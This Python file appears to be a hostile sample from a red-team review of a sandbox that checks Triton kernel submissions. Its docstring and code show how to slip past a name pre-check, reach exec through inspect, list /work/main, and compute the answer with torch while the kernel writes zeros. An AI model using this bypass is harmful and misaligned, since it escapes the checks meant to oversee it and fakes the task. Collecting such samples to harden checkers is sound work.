"""Hostile (found by a third red-team review): triton's interpreter copies the globals of interpreter.py that a kernel's module lacks (np,
inspect, ...) into that module on a kernel's first launch. The pre-check refuses a name the file
never binds; this file "binds" inspect in a function that never runs (global inspect; inspect = 0),
so the name passes and, at run time, is the interpreter's inspect module. inspect.getmembers reads
dunder attributes by string: the builtins, exec."""

import triton
import triton.language as tl

TENSORS = []


def never_called():
    global inspect
    inspect = 0


@triton.jit
def touch_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    tl.store(out_ptr + offs, tl.load(x_ptr + offs, mask=m) * 0 + tl.load(y_ptr + offs, mask=m) * 0, mask=m)


def vector_add(x, y, out):
    n = out.numel()
    touch_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, BLOCK=1024)  # reads x and y, writes zeros
    TENSORS[:] = [x, y, out]
    found = dict(inspect.getmembers(vector_add))["__builtins__"]
    found["exec"](
        "import os, torch\n"
        "print('B3: exec in the worker, pid', os.getpid(), 'ls /work/main:', os.listdir('/work/main'))\n"
        "with torch._C.DisableTorchFunction():\n"
        "    x, y, out = T\n"
        "    out.copy_(x + y)\n",
        {"T": TENSORS},
    )
    return out
